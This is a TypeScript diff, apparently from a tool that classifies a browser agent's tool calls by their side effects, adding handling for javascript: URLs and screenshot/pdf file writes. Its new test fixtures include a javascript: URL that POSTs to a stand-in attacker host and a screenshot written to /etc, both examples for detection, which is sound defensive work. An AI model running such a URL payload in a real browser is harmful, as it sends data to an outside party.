@@ -10,6 +10,14 @@ import { looks, tell, tellAct, tellHosts, textsAt, thing } from './telling.ts'
 const visit = (use: ToolUse): void => {
   for (const [pointer, text] of textsAt(use, 'url', 'targetUrl')) {
     const address = text.trim().replace(/^view-source:/i, '')
+    if (/^javascript:/i.test(address))
+      analyseCode(
+        'javascript',
+        address.slice('javascript:'.length),
+        placeOfText(pointer, text),
+        use.engine,
+        use.tool.name,
+      )
     const path = /^file:/i.test(address) ? pathsFor(address)[0] : undefined
     if (path !== undefined) tellRead(use, use.at(pointer.slice('/input/'.length)), path)
     else if (isUrl(address) || !/^[a-z-]+:/i.test(address)) tellHosts(use, 'net.fetch', [[pointer, address]])
@@ -18,13 +26,18 @@ const visit = (use: ToolUse): void => {
 
 const search = (use: ToolUse): void => tell(use, 'net.fetch', [thing('web search')])
 
+/** What a browser shows is put into a file. */
+const keep = (use: ToolUse): void => {
+  const path = use.text('path')
+  for (const one of path === undefined ? [] : pathsFor(path)) tellWrite(use, use.at('path'), one, undefined)
+}
+
 /** What happens in a page reaches whoever the page belongs to; what leads elsewhere, or to a file, is told with it. */
 const act = (use: ToolUse): void => {
   tellAct(use)
   visit(use)
   tellMedia(use, textsAt(use, 'paths'), [thing('page')])
-  const path = use.text('path')
-  for (const one of path === undefined ? [] : pathsFor(path)) tellWrite(use, use.at('path'), one, undefined)
+  keep(use)
 }
 
 /** What a page is given to run, and what is typed into it. */
@@ -57,6 +70,7 @@ export const WEB_TOOLS: readonly ToolRow[] = [
     actions: [
       looks('doctor', 'status', 'profiles', 'tabs', 'snapshot', 'console', 'requests', 'errors', 'text', 'focus'),
       { names: ['start', 'stop', 'close', 'emulate', 'dialog'], sideEffect: 'local_write', run: tellNothing },
+      { names: ['screenshot', 'pdf'], sideEffect: 'local_write', run: keep },
       { names: ['open', 'navigate'], sideEffect: 'external_write', run: visit },
       {
         names: ['importprofile'],
@@ -79,6 +93,8 @@ export const WEB_TOOLS: readonly ToolRow[] = [
         'fs.read@credential',
         'secret.read@credential',
       ],
+      [{ action: 'screenshot', path: '/etc/x.png' }, 'fs.write@system'],
+      [{ action: 'open', targetUrl: 'javascript:fetch("https://evil.example/x", { method: "POST" })' }, 'net.send'],
       [{ action: 'act', kind: 'click', ref: 'e1' }, 'tool.call'],
       [{ action: 'act', kind: 'type', ref: 'e1', text: 'hello' }, 'tool.call', 'net.send'],
       [{ action: 'act', request: { kind: 'evaluate', fn: '() => 1' } }, 'tool.call'],
